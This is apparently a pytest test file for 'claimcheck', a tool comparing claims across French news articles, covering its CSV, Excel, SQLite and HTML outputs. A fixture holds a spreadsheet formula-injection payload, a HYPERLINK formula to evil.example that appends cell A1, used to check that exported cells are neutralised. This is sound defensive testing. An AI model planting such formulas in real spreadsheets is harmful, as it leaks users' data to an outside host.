"""Output formats: taken from the -o extension, the Excel workbook and CSV (read back as Excel
would), SQLite, formula-injection neutralisation, --version."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest
from typer.testing import CliRunner

from claimcheck import report
from claimcheck.cli import app
from claimcheck.records import CLAIM_COLUMNS, DISCREPANCY_COLUMNS, Article, Claim, Discrepancy

runner = CliRunner()

QUAKE = {
    "a": "Séisme : le bilan s'alourdit\n\nSelon la protection civile, 120 personnes sont mortes dans la région de Tiznit.\n",
    "b": "Le séisme a fait 45 morts dans la région de Tiznit, selon la protection civile.\n",
}
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1;"cliquez")'


@pytest.fixture(autouse=True)
def _private_cache(tmp_path_factory, monkeypatch):
    monkeypatch.setenv("CLAIMCHECK_CACHE_DIR", str(tmp_path_factory.mktemp("cache")))


@pytest.fixture()
def quake(write_articles, tmp_path):
    folder = write_articles(QUAKE)
    meta = tmp_path / "meta.csv"
    meta.write_text("doc_id,published,outlet,url\na,2023-09-09,Le Courrier,https://c.example/a\n"
                    "b,2023-09-09,La Gazette,\n", encoding="utf-8")
    return folder, meta


def run(*args: object):
    return runner.invoke(app, [str(a) for a in args])


def _discrepancies() -> list[Discrepancy]:
    return [
        Discrepancy("quantity", "mort · Tiznit", "a", "b", HOSTILE, "Le séisme a fait 45 morts.", "120 mort", "45 mort",
                    0.85, "a says 120 morts; b says 45 — 2.7× more"),
        Discrepancy("date", "veto", "a", "c", "+33 % en mars.", "@dupont : en mai.", "2024-03", "2024-05", 0.5,
                    "-2 months apart"),
        Discrepancy("attribution", "manifestant", "c", "c", "Selon la CGT, 20 000.", "Selon la police, 8 000.",
                    "20000 manifestant", "8000 manifestant", 0.2, "two sources disagree"),
    ]


CLAIMS = [Claim("a:0001", "a", "quantity", "120", 30, 33, "120", unit="mort", sentence=HOSTILE, low=120.0, high=120.0,
                paragraph=2, sent_start=0, sent_end=40)]
DOCUMENTS = {"a": Article("a", "", outlet="Le Courrier", published="2023-09-09"), "b": Article("b", "", outlet="La Gazette"),
             "c": Article("c", "")}


# ---------------------------------------------------------------------------- format from -o
@pytest.mark.parametrize(
    ("name", "check"),
    [
        ("r.csv", lambda b: b.decode().splitlines()[0] == ",".join(DISCREPANCY_COLUMNS)),
        ("r.jsonl", lambda b: json.loads(b.decode().splitlines()[0])["kind"] == "quantity"),
        ("r.html", lambda b: b.startswith(b"<!doctype html>")),
        ("r.htm", lambda b: b.startswith(b"<!doctype html>")),
        ("r.xlsx", lambda b: b[:2] == b"PK"),
        ("r.sqlite", lambda b: b.startswith(b"SQLite format 3\x00")),
        ("r.db", lambda b: b.startswith(b"SQLite format 3\x00")),
        ("r.out", lambda b: b.decode().startswith("1 discrepancy\n")),  # unknown: the table (80 columns: stacked)
    ],
)
def test_the_output_extension_names_the_format(nlp, quake, tmp_path, name, check):
    folder, meta = quake
    out = tmp_path / name
    result = run("diff", folder, "--meta", meta, "-o", out, "--quiet")
    assert result.exit_code == 0, result.output
    assert check(out.read_bytes())


def test_format_wins_over_the_extension(nlp, quake, tmp_path):
    folder, meta = quake
    out = tmp_path / "r.html"
    assert run("diff", folder, "--meta", meta, "-o", out, "--format", "csv", "--quiet").exit_code == 0
    assert out.read_text(encoding="utf-8").startswith("kind,topic,")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["diff", "--format", "xlsx"], "--format xlsx writes a file: name it with -o FILE"),
        (["diff", "-o", "-", "--format", "sqlite"], "--format sqlite writes a file"),
        (["extract", "-o", "{tmp}/r.html"], "this command writes csv, jsonl, xlsx, sqlite; the extension names html"),
        (["diff", "--format", "jsonl", "--excel"], "--excel makes a CSV for Excel; it does not apply to --format jsonl"),
    ],
)
def test_a_format_that_cannot_be_written_is_one_error(quake, tmp_path, args, message):
    folder, _ = quake
    result = run(*[a.format(tmp=tmp_path) for a in args], folder)
    assert result.exit_code == 2 and result.output.count("\n") == 1 and message in result.output, result.output
    assert not (tmp_path / "r.html").exists()


def test_version():
    from claimcheck import __version__

    result = run("--version")
    assert result.exit_code == 0 and result.output == f"claimcheck {__version__}\n"


# ----------------------------------------------------------------------------------- Excel
def test_the_workbook_reads_back_with_its_sheets_header_filters_and_colours(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "r.xlsx"
    report.write_file(path, "xlsx", claims=CLAIMS, discrepancies=_discrepancies(), documents=DOCUMENTS)
    book = load_workbook(path)
    assert book.sheetnames == ["discrepancies", "claims"]
    sheet = book["discrepancies"]
    header = [c.value for c in sheet[1]]
    assert header == [*DISCREPANCY_COLUMNS[:4], "outlet_a", "outlet_b", *DISCREPANCY_COLUMNS[4:]]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:M4"
    assert sheet.column_dimensions["G"].width > sheet.column_dimensions["A"].width  # text_a is wide
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0][4:6] == ["Le Courrier", "La Gazette"] and rows[2][4:6] == [None, None]
    assert [r[header.index("severity")] for r in rows] == [0.85, 0.5, 0.2]  # numbers, not text
    fills = [row[header.index("severity")].fill.fgColor.rgb for row in sheet.iter_rows(min_row=2)]
    assert len(set(fills)) == 3  # one colour per severity band
    claims = book["claims"]
    assert [c.value for c in claims[1]] == list(CLAIM_COLUMNS) and claims.freeze_panes == "A2"
    assert claims.cell(2, CLAIM_COLUMNS.index("start") + 1).value == 30


def test_the_workbook_never_holds_a_formula(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "r.xlsx"
    report.write_file(path, "xlsx", claims=CLAIMS, discrepancies=_discrepancies(), documents=DOCUMENTS)
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    hostile = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in hostile} == {HOSTILE, "+33 % en mars.", "@dupont : en mai.", "-2 months apart"}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)  # text, and text once edited


def _as_excel_reads_it(data: bytes) -> list[list[str]]:
    """What a French Excel does with a CSV: a BOM means UTF-8, cells split on ';'."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def test_the_excel_csv_opens_in_columns_with_its_accents_and_no_formula(tmp_path):
    out = io.StringIO()
    report.render_discrepancies(_discrepancies(), "csv", out, excel=True)
    rows = _as_excel_reads_it(out.getvalue().encode("utf-8"))
    assert rows[0] == list(DISCREPANCY_COLUMNS)
    assert rows[1][DISCREPANCY_COLUMNS.index("text_b")] == "Le séisme a fait 45 morts."
    assert rows[1][DISCREPANCY_COLUMNS.index("text_a")] == "'" + HOSTILE
    assert rows[2][DISCREPANCY_COLUMNS.index("text_b")] == "'@dupont : en mai."
    assert rows[1][DISCREPANCY_COLUMNS.index("severity")] == "0,85"  # the decimal mark of a French Excel


def test_the_plain_csv_keeps_every_cell_as_written(tmp_path):
    out = io.StringIO()
    report.render_discrepancies(_discrepancies(), "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["text_a"] == HOSTILE and rows[1]["explanation"] == "-2 months apart" and rows[0]["severity"] == "0.85"


def test_extract_excel_csv_end_to_end(nlp, quake, tmp_path):
    folder, meta = quake
    out = tmp_path / "claims.csv"
    result = run("extract", folder, "--meta", meta, "--excel", "-o", out)
    assert result.exit_code == 0, result.output
    rows = _as_excel_reads_it(out.read_bytes())
    assert rows[0] == list(CLAIM_COLUMNS) and len(rows) > 3
    assert any("région de Tiznit" in r[CLAIM_COLUMNS.index("sentence")] for r in rows[1:])


# ---------------------------------------------------------------------------------- SQLite
def test_diff_to_sqlite_has_claims_discrepancies_documents_and_indexes(nlp, quake, tmp_path):
    folder, meta = quake
    db, table = tmp_path / "r.sqlite", tmp_path / "r.csv"
    assert run("diff", folder, "--meta", meta, "-o", db, "--quiet").exit_code == 0
    assert run("diff", folder, "--meta", meta, "-o", table, "--quiet").exit_code == 0
    with sqlite3.connect(db) as con:
        rows = con.execute(f"SELECT {', '.join(DISCREPANCY_COLUMNS)} FROM discrepancies ORDER BY id").fetchall()
        expected = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"))))[1:]
        assert [[str(v) for v in r] for r in rows] == expected
        (n,) = con.execute("SELECT count(*) FROM claims WHERE doc_id = 'a' AND kind = 'quantity'").fetchone()
        assert n >= 1
        assert con.execute("SELECT outlet, url FROM documents WHERE doc_id = 'a'").fetchone() == (
            "Le Courrier", "https://c.example/a")
        indexes = {r[1] for r in con.execute("SELECT * FROM sqlite_master WHERE type = 'index'")}
        assert {"claims_doc_id", "claims_kind_unit", "discrepancies_kind", "discrepancies_doc_a"} <= indexes
        assert con.execute("SELECT typeof(start), typeof(low) FROM claims WHERE kind = 'quantity'").fetchone() == (
            "integer", "real")


def test_extract_to_sqlite_and_a_failure_leaves_nothing(nlp, quake, tmp_path):
    folder, meta = quake
    db = tmp_path / "claims.db"
    assert run("extract", folder, "--meta", meta, "-o", db, "--quiet").exit_code == 0
    with sqlite3.connect(db) as con:
        ids = [r[0] for r in con.execute("SELECT claim_id FROM claims")]
        assert ids and len(ids) == len(set(ids))
        assert "discrepancies" not in {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    (folder / "c.txt").write_bytes(b"\x00\x01binary")
    bad = tmp_path / "bad.sqlite"
    assert run("extract", folder, "-o", bad).exit_code == 2
    assert not bad.exists() and not list(tmp_path.glob(".bad.sqlite*"))


# -------------------------------------------------------------------------------- terminal
@pytest.mark.parametrize("columns", [80, 120, 200])
def test_diff_prints_a_table_as_wide_as_the_terminal_and_a_summary_on_stderr(nlp, quake, monkeypatch, columns):
    from rich.cells import cell_len

    folder, meta = quake
    monkeypatch.setenv("COLUMNS", str(columns))  # what rich reads when the output is not a terminal
    result = run("diff", folder, "--meta", meta)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].strip() == "1 discrepancy" and max(cell_len(line) for line in lines) <= columns
    assert max(cell_len(line) for line in lines) > columns - 10  # it uses the width it has
    assert "Le Courrier, 2023-09-09" in result.stdout and "La Gazette, 2023-09-09" in result.stdout
    summary = result.stderr.splitlines()[-1]
    assert summary.startswith("claimcheck: 2 articles, ") and ", 1 discrepancy, " in summary
    assert summary.endswith(" s")


def test_extract_ends_with_a_summary_and_quiet_silences_it(nlp, quake, tmp_path):
    folder, meta = quake
    out = tmp_path / "c.csv"
    result = run("extract", folder, "--meta", meta, "-o", out)
    claims = len(out.read_text(encoding="utf-8").splitlines()) - 1
    assert result.exit_code == 0 and result.stderr.splitlines()[-1].startswith(f"claimcheck: 2 articles, {claims} claims, ")
    assert run("extract", folder, "--meta", meta, "-o", out, "--quiet").stderr == ""
